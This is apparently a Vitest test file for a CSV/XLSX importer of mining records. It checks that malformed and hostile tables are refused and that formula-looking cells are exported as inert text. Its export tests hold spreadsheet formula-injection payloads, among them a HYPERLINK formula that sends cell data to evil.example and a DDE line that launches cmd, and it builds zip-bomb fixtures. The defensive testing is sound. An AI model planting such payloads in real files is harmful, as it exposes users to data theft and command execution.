/**
 * Hostile and careless tables (issue 24): every probe that once crashed the importer, filled
 * its memory or was silently accepted, run again. Each must come back as a clear, located
 * refusal (or, for an encoding, a declared conversion).
 */
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import ExcelJS from "exceljs";
import { afterAll, describe, expect, it } from "vitest";
import { type Issue, issueToString, OrebookError } from "../../model/errors.js";
import { zipOf } from "./_test-zip.js";
import { parseCsv } from "./parse-csv.js";
import { readRecordsCsv } from "./read-records-csv.js";
import { readRecordsXlsx } from "./read-records-xlsx.js";
import { streamRecordsCsv } from "./stream-records-csv.js";
import { tablesFromDataset, writeTablesCsv, writeTablesXlsx } from "./write-tables.js";

const dir = mkdtempSync(join(tmpdir(), "orebook-hostile-"));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

const SOURCES = "id,title,kind,confidence\ns1,A source,primary,high\n";
const today = "2026-06-30";

/** A folder holding these CSV files. */
function folder(name: string, files: Record<string, string | Buffer>): string {
  const d = join(dir, name);
  mkdirSync(d, { recursive: true });
  for (const [f, text] of Object.entries(files)) writeFileSync(join(d, f), text);
  return d;
}

async function refusal(f: () => unknown): Promise<OrebookError> {
  try {
    await f();
  } catch (e) {
    if (e instanceof OrebookError) return e;
    throw e;
  }
  throw new Error("Expected a refusal");
}

describe("CSV probes", () => {
  it("a single field longer than the limit is refused with its file, line and column, before it is held", async () => {
    const big = "x".repeat(2 * 1024 * 1024);
    const d = folder("huge-field", {
      "sources.csv": `id,title,kind,confidence\ns1,${big},primary,high\n`,
    });
    const e = await refusal(() => readRecordsCsv([d]));
    expect(e.message).toBe(
      `${join(d, "sources.csv")}:2:2: a field longer than 1048576 characters: nothing was read (is a quote left open, or the file not CSV?)`,
    );
  });

  it("a quote left open that swallows the rest of a large file is refused at the field limit", () => {
    expect(() =>
      parseCsv(`id,note\na,"${"y".repeat(200)}`, "n.csv", { maxFieldChars: 100 }),
    ).toThrow("n.csv:2:2: a field longer than 100 characters");
  });

  it("a row with more cells than its header is refused with the first extra cell's place, not dropped", async () => {
    const d = folder("extra-cells", {
      "sources.csv": "id,title,kind,confidence\ns1,A source,primary,high,surplus,more\n",
    });
    const e = await refusal(() => readRecordsCsv([d]));
    expect(e.issues.map(issueToString)).toEqual([
      `${join(d, "sources.csv")}:2:5: The row has 2 cells past the header's 4 columns (the first: "surplus"): each value needs its column (is a comma unquoted?)`,
    ]);
  });

  it("Latin-1 text is converted to the right characters and the conversion declared, never stored as U+FFFD", () => {
    const d = folder("latin1", {
      "sources.csv": Buffer.from(
        "id,title,kind,confidence\ns1,Gécamines rapport,primary,high\n",
        "latin1",
      ),
    });
    const notices: Issue[] = [];
    const ds = readRecordsCsv([d], { notices });
    expect(ds.sources[0]?.title).toBe("Gécamines rapport");
    expect(JSON.stringify(ds)).not.toContain("\ufffd");
    expect(notices.map(issueToString)).toEqual([
      `${join(d, "sources.csv")}:2: warning: The file is not UTF-8 (byte 0xE9 on line 2 is not valid UTF-8): read as Windows-1252 (Latin-1) and converted; save it as UTF-8 to be sure every character is right`,
    ]);
  });

  it("an empty CSV file is refused, not imported as nothing", async () => {
    const d = folder("empty", { "sources.csv": "" });
    expect((await refusal(() => readRecordsCsv([d]))).message).toBe(
      `${join(d, "sources.csv")}:1: the file is empty: expected a header row (the columns of orebook template csv) and a row per record`,
    );
  });

  it("tables with headers and no rows are refused as nothing to import", async () => {
    const d = folder("headers-only", { "sources.csv": "id,title,kind,confidence\n" });
    expect((await refusal(() => readRecordsCsv([d]))).message).toBe(
      `${d}: no records, only header rows: nothing to import`,
    );
  });

  it("an actual production figure for a period that has not begun and a stake as of a later month are refused", async () => {
    const d = folder("future", {
      "sources.csv": SOURCES,
      "entities.csv": "id,name,kind,country,sources,asOf\nk,Kamoto,company,CD,s1,2025\n",
      "assets.csv":
        "id,name,kind,country,province,location.lat,status,commodities,sources,asOf\nm,Mine,mine,CD,Lualaba,,operating,cobalt,s1,2025\n",
      "stakes.csv": "id,owner,owned,share,sources,asOf\nst,k,m,0.5,s1,2099-02\n",
      "production.csv":
        "id,asset,commodity,period,tonnes,basis,sources,asOf\np,m,cobalt,2098,10,actual,s1,2025\n",
    });
    const e = await refusal(() => readRecordsCsv([d], { today }));
    expect(e.issues.map(issueToString)).toEqual([
      `${join(d, "stakes.csv")}:2:6: stakes st asOf: asOf 2099-02 is after today (2026-06-30): a source cannot have said it yet. A fact that starts later is scheduled with validFrom; otherwise correct the date`,
      `${join(d, "production.csv")}:2:4: production p period: An actual figure for period 2098, which begins 2098-01-01, after today (2026-06-30): a figure for the future is basis estimate, guidance or capacity`,
    ]);
  });

  it("a scheduled stake (validFrom after today) may carry an asOf as late as its start", () => {
    const d = folder("scheduled", {
      "sources.csv": SOURCES,
      "entities.csv": "id,name,kind,country,sources,asOf\nk,Kamoto,company,CD,s1,2025\n",
      "assets.csv":
        "id,name,kind,country,province,location.lat,status,commodities,sources,asOf\nm,Mine,mine,CD,Lualaba,,operating,cobalt,s1,2025\n",
      "stakes.csv":
        "id,owner,owned,share,validFrom,sources,asOf\nst,k,m,0.5,2027-01-25,s1,2027-01-25\n",
    });
    expect(readRecordsCsv([d], { today }).stakes).toHaveLength(1);
  });

  it("CSV export writes a formula-looking cell as text a spreadsheet will not run, and reads it back unchanged", () => {
    const title = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
    const others = ["+1 555", "-cmd|' /C calc'!A0", "@SUM(A1)", "'=already quoted", "-0.25"];
    const sources = [title, ...others].map((t, i) => ({
      id: `s${i}`,
      title: t,
      kind: "primary" as const,
      confidence: "high" as const,
    }));
    const out = join(dir, "export");
    writeTablesCsv(out, tablesFromDataset({ sources } as never, ["sources"]));
    const text = readFileSync(join(out, "sources.csv"), "utf8");
    const titles = parseCsv(text)
      .slice(1)
      .map((r) => r.cells[1]);
    expect(titles).toEqual([
      `'${title}`,
      "'+1 555",
      "'-cmd|' /C calc'!A0",
      "'@SUM(A1)",
      "''=already quoted",
      "-0.25",
    ]);
    expect(readRecordsCsv([out]).sources.map((s) => s.title)).toEqual([title, ...others]);
  });
});

describe("CSV probes read by a stream that prepares the assets ahead (a reading thread's)", () => {
  /** Every kind of the stream read in order, `prepare` run to its end after the first record. */
  function readPreparing(d: string): unknown {
    const csv = streamRecordsCsv([d], { today });
    try {
      let prepared = false;
      for (const records of Object.values(csv.dataset))
        for (const _ of records as Iterable<unknown>)
          if (!prepared) {
            prepared = true;
            while (csv.prepare?.());
          }
      return { issues: csv.issues, notices: csv.notices };
    } catch (e) {
      return e instanceof OrebookError ? e.message : e;
    }
  }
  function read(d: string): unknown {
    const csv = streamRecordsCsv([d], { today });
    try {
      for (const records of Object.values(csv.dataset))
        for (const _ of records as Iterable<unknown>);
      return { issues: csv.issues, notices: csv.notices };
    } catch (e) {
      return e instanceof OrebookError ? e.message : e;
    }
  }

  it("an unclosed quote in the entities is met before one in the production, prepared ahead or not", () => {
    // The entities span chunks: the first records are read before the unclosed quote.
    const companies = Array.from({ length: 5000 }, (_, i) => `C${i},Company ${i},company,ZA\n`);
    const d = folder("prepare-quotes", {
      "entities.csv": `id,name,kind,country\nA1,Mine,asset,CD\n${companies.join("")}C,"Unclosed,company,ZA\n`,
      "production.csv": 'asset_id,commodity,tonnes\nA1,cobalt,5\nA1,"copper,6\n',
    });
    const first = read(d);
    expect(first).toMatch(/entities\.csv:5003: a quoted field is never closed/);
    expect(readPreparing(d)).toEqual(first);
  });

  it("a production table read ahead tells its conversion as reading it in turn does", () => {
    const latin1 = Buffer.concat([
      Buffer.from("asset_id,commodity,tonnes,note\nA1,cobalt,5,caf"),
      Buffer.from([0xe9, 0x0a]),
    ]);
    for (const kind of ["asset", "company"]) {
      const d = folder(`prepare-latin1-${kind}`, {
        "entities.csv": `id,name,kind,country\nE1,One,${kind},CD\n`,
        "assets.csv":
          "id,name,kind,status,country,province,location.lat,commodities\nA1,Mine,mine,operating,CD,Lualaba,,cobalt\n",
        "production.csv": latin1,
      });
      const first = read(d);
      expect(readPreparing(d)).toEqual(first);
    }
  });
});

describe("XLSX probes", () => {
  it("a zip bomb is refused from what it declares, before a byte is inflated", async () => {
    const file = join(dir, "bomb.xlsx");
    // 64 MiB of one repeated byte deflates to about 64 KiB: a ratio of about 1000:1.
    writeFileSync(
      file,
      zipOf([
        { name: "[Content_Types].xml", data: Buffer.from("<Types/>") },
        { name: "xl/worksheets/sheet1.xml", data: Buffer.alloc(64 * 1024 * 1024, 0x20) },
      ]),
    );
    const e = await refusal(() => readRecordsXlsx(file));
    expect(e.code).toBe("PAYLOAD_TOO_LARGE");
    expect(e.message).toMatch(
      /^bomb\.xlsx: xl\/worksheets\/sheet1\.xml declares 64\.0 MiB from \d+ KiB compressed \(\d+:1\): refused before reading, as a zip bomb \(at most 100:1 for an entry above 1 MiB\)$/,
    );
  });

  it("an archive that lies about its sizes is refused when an entry inflates past what it declares", async () => {
    const file = join(dir, "liar.xlsx");
    writeFileSync(
      file,
      zipOf([
        {
          name: "xl/worksheets/sheet1.xml",
          data: Buffer.alloc(4 * 1024 * 1024, 0x20),
          declaredSize: 1000,
        },
      ]),
    );
    const e = await refusal(() => readRecordsXlsx(file));
    expect(e.message).toBe(
      "liar.xlsx: xl/worksheets/sheet1.xml inflates to more than the 1 KiB it declares: refused before reading (a damaged file or a zip bomb)",
    );
  });

  it("a workbook whose content is larger than the limit is refused before reading", async () => {
    const file = join(dir, "large.xlsx");
    writeFileSync(
      file,
      zipOf([{ name: "xl/worksheets/sheet1.xml", data: Buffer.alloc(3 * 1024 * 1024, 0x41) }]),
    );
    const e = await refusal(() =>
      readRecordsXlsx(file, { maxBytes: 2 * 1024 * 1024, maxRatio: 10_000 }),
    );
    expect(e.message).toBe(
      "large.xlsx declares 3.0 MiB of content, more than the 2.0 MiB a workbook may hold: refused before reading (split it, or import CSV)",
    );
  });

  it("a file that is not a zip, a missing file and a folder are refused by name, not as internal errors", async () => {
    const notZip = join(dir, "table.xlsx");
    writeFileSync(notZip, "id,title\ns1,x\n");
    expect((await refusal(() => readRecordsXlsx(notZip))).message).toBe(
      "table.xlsx is not an XLSX workbook: it does not start as a zip archive (an XLSX file is a zip archive; save the sheet as .xlsx, or import a .csv with orebook import csv)",
    );
    expect((await refusal(() => readRecordsXlsx(join(dir, "nope.xlsx")))).code).toBe("NOT_FOUND");
    mkdirSync(join(dir, "folder.xlsx"), { recursive: true });
    expect((await refusal(() => readRecordsXlsx(join(dir, "folder.xlsx")))).message).toBe(
      `${join(dir, "folder.xlsx")} is a folder: expected an .xlsx workbook`,
    );
  });

  it("a value right of the header's last column is refused with its cell, not dropped", async () => {
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet("sources");
    ws.addRow(["id", "title", "kind", "confidence"]);
    ws.addRow(["s1", "A source", "primary", "high", undefined, "stray"]);
    const file = join(dir, "extra.xlsx");
    await wb.xlsx.writeFile(file);
    expect((await refusal(() => readRecordsXlsx(file))).issues.map(issueToString)).toEqual([
      'extra.xlsx: sources!F2: The row has 1 cell past the header\'s 4 columns (the first: "stray"): each value needs its column (is a comma unquoted?)',
    ]);
  });

  it("a cell longer than the field limit is refused with its cell", async () => {
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet("sources");
    ws.addRow(["id", "title", "kind", "confidence"]);
    ws.addRow(["s1", "t".repeat(500), "primary", "high"]);
    const file = join(dir, "long-cell.xlsx");
    await wb.xlsx.writeFile(file);
    expect(
      (await refusal(() => readRecordsXlsx(file, { maxFieldChars: 100 }))).issues.map(
        issueToString,
      ),
    ).toEqual(["long-cell.xlsx: sources!B2 title: A cell longer than 100 characters (500)"]);
  });

  it("a workbook with no record sheet or no rows is refused as nothing to import", async () => {
    const wb = new ExcelJS.Workbook();
    wb.addWorksheet("Sheet1").addRow(["hello"]);
    const file = join(dir, "nothing.xlsx");
    await wb.xlsx.writeFile(file);
    expect((await refusal(() => readRecordsXlsx(file))).message).toBe(
      "nothing.xlsx has no sheet named after a record kind: expected sheets such as sources, entities, assets, stakes (see orebook template xlsx)",
    );
    const wb2 = new ExcelJS.Workbook();
    wb2.addWorksheet("sources").addRow(["id", "title", "kind", "confidence"]);
    const file2 = join(dir, "headers.xlsx");
    await wb2.xlsx.writeFile(file2);
    expect((await refusal(() => readRecordsXlsx(file2))).message).toBe(
      "headers.xlsx: no records, only header rows: nothing to import",
    );
  });

  it("XLSX export writes a formula-looking text as a text cell, never as a formula", async () => {
    const title = '=HYPERLINK("http://evil.example","Click")';
    const file = join(dir, "export.xlsx");
    await writeTablesXlsx(
      file,
      tablesFromDataset(
        { sources: [{ id: "s1", title, kind: "primary", confidence: "high" }] } as never,
        ["sources"],
      ),
    );
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(file);
    const cell = wb.getWorksheet("sources")?.getCell("B2");
    expect(cell?.type).toBe(ExcelJS.ValueType.String);
    expect(cell?.value).toBe(title);
  });
});
